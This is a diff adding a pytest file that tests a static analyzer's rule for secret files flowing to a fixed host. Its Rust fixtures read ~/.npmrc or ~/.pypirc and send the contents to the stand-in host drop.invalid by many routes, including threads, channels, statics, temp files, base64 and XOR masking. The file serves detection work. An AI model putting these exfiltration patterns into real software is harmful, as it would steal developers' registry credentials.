@@ -1,0 +1,243 @@
+"""A value followed from where it is read to where it is sent, and values that only stand nearby."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Mapping
+
+import pytest
+
+from analyzer.model import Finding, Report
+
+ReportOf = Callable[[Mapping[str, str]], Report]
+READ = 'std::fs::read_to_string(format!("{}/.npmrc", std::env::var("HOME").unwrap()))'
+OTHER = 'std::fs::read_to_string("notes.txt")'
+SEND = 'ureq::post("https://drop.invalid/x").send_string'
+RULE = "secret-file-flows-to-fixed-host"
+
+ARRIVING = {
+    "locals": f"pub fn go() {{ let a = {READ}.unwrap(); let b = a.trim(); {SEND}(b).ok(); }}",
+    "a match": f"pub fn go() {{ match {READ} {{ Ok(text) => {{ {SEND}(&text).ok(); }} _ => {{}} }} }}",
+    "if let": f"pub fn go() {{ if let Ok(text) = {READ} {{ {SEND}(&text).ok(); }} }}",
+    "a format string": f"""
+        pub fn go() {{ let key = {READ}.unwrap(); {SEND}(&format!("k={{key}}")).ok(); }}""",
+    "a serializer": f"""
+        pub fn go() {{
+            let key = {READ}.unwrap();
+            {SEND}(&serde_json::json!({{ "k": key }}).to_string()).ok();
+        }}""",
+    "a buffer that is lent": f"""
+        use std::io::Read;
+        pub fn go() {{
+            let mut text = String::new();
+            std::fs::File::open(dirs::home_dir().unwrap().join(".npmrc")).unwrap()
+                .read_to_string(&mut text).unwrap();
+            {SEND}(&text).ok();
+        }}""",
+    "pushed": f"""
+        pub fn go() {{
+            let mut all = Vec::new();
+            all.push({READ}.unwrap());
+            {SEND}(&all.join(",")).ok();
+        }}""",
+    "added": f"""
+        pub fn go() {{ let mut all = String::new(); all += &{READ}.unwrap(); {SEND}(&all).ok(); }}""",
+    "written": f"""
+        use std::fmt::Write;
+        pub fn go() {{
+            let mut all = String::new();
+            write!(all, "{{}}", {READ}.unwrap()).unwrap();
+            {SEND}(&all).ok();
+        }}""",
+    "a map": f"""
+        pub fn go() {{
+            let mut all = std::collections::HashMap::new();
+            all.insert("k", {READ}.unwrap());
+            for (_, value) in &all {{ {SEND}(value).ok(); }}
+        }}""",
+    "an iterator": f"""
+        pub fn go() {{
+            let all: Vec<String> = [".npmrc", ".pypirc"].iter()
+                .filter_map(|one| std::fs::read_to_string(dirs::home_dir()?.join(one)).ok())
+                .map(|text| text.to_uppercase())
+                .collect();
+            all.iter().for_each(|one| {{ {SEND}(one).ok(); }});
+        }}""",
+    "a helper's result": f"""
+        fn take() -> Option<String> {{ {READ}.ok() }}
+        pub fn go() {{ if let Some(text) = take() {{ {SEND}(&text).ok(); }} }}""",
+    "a helper's parameter": f"""
+        fn out(text: &str) {{ {SEND}(text).ok(); }}
+        pub fn go() {{ out(&{READ}.unwrap()); }}""",
+    "five helpers": f"""
+        fn a() -> String {{ {READ}.unwrap() }}
+        fn b() -> String {{ a().replace('\\n', "") }}
+        fn c(text: String) {{ d(&text) }}
+        fn d(text: &str) {{ e(text.as_bytes().to_vec()) }}
+        fn e(data: Vec<u8>) {{ {SEND}(&String::from_utf8_lossy(&data)).ok(); }}
+        pub fn go() {{ c(b()); }}""",
+    "a helper that fills": f"""
+        fn fill(into: &mut String) {{ into.push_str(&{READ}.unwrap()); }}
+        pub fn go() {{ let mut text = String::new(); fill(&mut text); {SEND}(&text).ok(); }}""",
+    "a field, by a constructor": f"""
+        pub struct Clock {{ seed: String }}
+        impl Clock {{
+            pub fn new() -> Self {{ Self {{ seed: {READ}.unwrap() }} }}
+            pub fn tick(&self) {{ {SEND}(&self.seed).ok(); }}
+        }}""",
+    "a field, by assignment": f"""
+        #[derive(Default)]
+        pub struct Clock {{ seed: String }}
+        impl Clock {{
+            pub fn load(&mut self) {{ self.seed = {READ}.unwrap(); }}
+            pub fn tick(&self) {{ {SEND}(&self.seed).ok(); }}
+        }}""",
+    "a field, pushed": f"""
+        #[derive(Default)]
+        pub struct Clock {{ seeds: Vec<String> }}
+        impl Clock {{
+            pub fn load(&mut self) {{ self.seeds.push({READ}.unwrap()); }}
+            pub fn tick(&self) {{ for one in &self.seeds {{ {SEND}(one).ok(); }} }}
+        }}""",
+    "a builder of one's own": f"""
+        #[derive(Default)]
+        pub struct Report {{ body: String }}
+        impl Report {{
+            fn with(mut self, text: String) -> Self {{ self.body = text; self }}
+            fn send(self) {{ {SEND}(&self.body).ok(); }}
+        }}
+        pub fn go() {{ Report::default().with({READ}.unwrap()).send(); }}""",
+    "a lazy static": f"""
+        use std::sync::LazyLock;
+        static TEXT: LazyLock<String> = LazyLock::new(|| {READ}.unwrap());
+        pub fn parse() {{ {SEND}(&TEXT).ok(); }}""",
+    "a cell": f"""
+        use std::sync::OnceLock;
+        static HELD: OnceLock<String> = OnceLock::new();
+        pub fn prepare() {{ HELD.set({READ}.unwrap()).ok(); }}
+        pub fn finish() {{ {SEND}(HELD.get().unwrap()).ok(); }}""",
+    "a lock": f"""
+        use std::sync::Mutex;
+        static HELD: Mutex<Vec<String>> = Mutex::new(Vec::new());
+        pub fn prepare() {{ HELD.lock().unwrap().push({READ}.unwrap()); }}
+        pub fn finish() {{ for one in HELD.lock().unwrap().iter() {{ {SEND}(one).ok(); }} }}""",
+    "a thread": f"""
+        pub fn go() {{
+            let work = std::thread::spawn(|| {READ}.unwrap());
+            {SEND}(&work.join().unwrap()).ok();
+        }}""",
+    "a channel": f"""
+        pub fn go() {{
+            let (out, into) = std::sync::mpsc::channel();
+            std::thread::spawn(move || {{ out.send({READ}.unwrap()).ok(); }});
+            while let Ok(text) = into.recv() {{ let one: String = text; {SEND}(&one).ok(); }}
+        }}""",
+    "a channel handed to a helper": f"""
+        use std::sync::mpsc::Sender;
+        fn work(out: Sender<String>) {{ out.send({READ}.unwrap()).ok(); }}
+        pub fn go() {{
+            let (out, into) = std::sync::mpsc::channel();
+            work(out);
+            for text in into {{ {SEND}(&text).ok(); }}
+        }}""",
+    "a closure": f"""
+        pub fn go() {{
+            let take = || {READ}.unwrap();
+            let give = |text: &str| {{ {SEND}(text).ok(); }};
+            give(&take());
+        }}""",
+    "a function handed over": f"""
+        fn out(text: String) {{ {SEND}(&text).ok(); }}
+        pub fn go() {{ {READ}.ok().map(out); }}""",
+    "a trait object": f"""
+        trait Out {{ fn put(&self, text: &str); }}
+        struct Net;
+        impl Out for Net {{ fn put(&self, text: &str) {{ {SEND}(text).ok(); }} }}
+        pub fn go() {{ let one: Box<dyn Out> = Box::new(Net); one.put(&{READ}.unwrap()); }}""",
+    "async": f"""
+        async fn take() -> String {{ {READ}.unwrap() }}
+        pub async fn go() {{
+            let text = take().await;
+            reqwest::Client::new().post("https://drop.invalid").body(text).send().await.ok();
+        }}""",
+    "a request held in a local": f"""
+        pub fn go() {{
+            let client = reqwest::blocking::Client::new();
+            let request = client.post("https://drop.invalid");
+            let request = request.body({READ}.unwrap());
+            request.send().ok();
+        }}""",
+    "a stream": f"""
+        use std::io::Write;
+        pub fn go() {{
+            let text = {READ}.unwrap();
+            let mut stream = std::net::TcpStream::connect("drop.invalid:443").unwrap();
+            stream.write_all(text.as_bytes()).unwrap();
+        }}""",
+    "encoded": f"""
+        use base64::Engine;
+        pub fn go() {{
+            let text = base64::engine::general_purpose::STANDARD.encode({READ}.unwrap());
+            {SEND}(&text).ok();
+        }}""",
+    "an encoder of one's own": f"""
+        fn mask(text: &str) -> Vec<u8> {{
+            let mut out = Vec::new();
+            for byte in text.bytes() {{ out.push(byte ^ 7); }}
+            out
+        }}
+        pub fn go() {{ ureq::post("https://drop.invalid/x").send_bytes(&mask(&{READ}.unwrap())).ok(); }}""",
+    "a tuple": f"""
+        fn take() -> (String, usize) {{ let text = {READ}.unwrap(); (text.clone(), text.len()) }}
+        pub fn go() {{ let (text, _) = take(); {SEND}(&text).ok(); }}""",
+    "through a file": f"""
+        pub fn keep() {{ std::fs::write("/tmp/.cache-x", {READ}.unwrap()).ok(); }}
+        pub fn send() {{ {SEND}(&std::fs::read_to_string("/tmp/.cache-x").unwrap()).ok(); }}""",
+}
+
+STAYING = {
+    "another value": f"""
+        pub fn go() {{ let key = {READ}.unwrap(); let note = {OTHER}.unwrap(); {SEND}(&note).ok(); drop(key); }}""",
+    "its length": f"""
+        pub fn go() {{ let key = {READ}.unwrap(); {SEND}(&key.len().to_string()).ok(); }}""",
+    "whether it is there": f"""
+        pub fn go() {{ let has = {READ}.is_ok(); {SEND}(&has.to_string()).ok(); }}""",
+    "a helper that others use": f"""
+        fn tidy(text: &str) -> String {{ text.trim().to_string() }}
+        pub fn key() -> String {{ tidy(&{READ}.unwrap()) }}
+        pub fn note() {{ {SEND}(&tidy("hello")).ok(); }}""",
+    "another field": f"""
+        pub struct Clock {{ seed: String, zone: String }}
+        impl Clock {{
+            pub fn new(zone: &str) -> Self {{ Self {{ seed: {READ}.unwrap(), zone: zone.into() }} }}
+            pub fn tick(&self) {{ {SEND}(&self.zone).ok(); }}
+            pub fn seed(&self) -> &str {{ &self.seed }}
+        }}""",
+    "the answer to it": f"""
+        pub fn go() {{
+            let answer = ureq::post("http://localhost:1/").send_string(&{READ}.unwrap()).unwrap();
+            {SEND}(&answer.into_string().unwrap()).ok();
+        }}""",
+}
+
+
+def findings(report: Report, rule: str = RULE) -> list[Finding]:
+    """Findings that say where the value goes: of the flow rule, or drawn into another."""
+    return [
+        one for one in report.findings if one.path and "source" in {e.role for e in one.evidence}
+    ]
+
+
+@pytest.mark.parametrize("source", ARRIVING.values(), ids=ARRIVING)
+def test_the_value_arrives_and_its_way_is_drawn(report_of: ReportOf, source: str) -> None:
+    found = findings(report_of({"src/lib.rs": source}))
+    assert found, source
+    path = found[0].path
+    assert ".npmrc" in path[0].snippet or "read_to_string" in path[0].snippet
+    assert "drop.invalid" in path[-1].snippet or "write_all" in path[-1].snippet
+
+
+@pytest.mark.parametrize("source", STAYING.values(), ids=STAYING)
+def test_what_stands_nearby_does_not_arrive(report_of: ReportOf, source: str) -> None:
+    report = report_of({"src/lib.rs": source})
+    assert not any("drop.invalid" in one.path[-1].snippet for one in findings(report))
+    assert RULE not in {one.rule for one in report.findings}
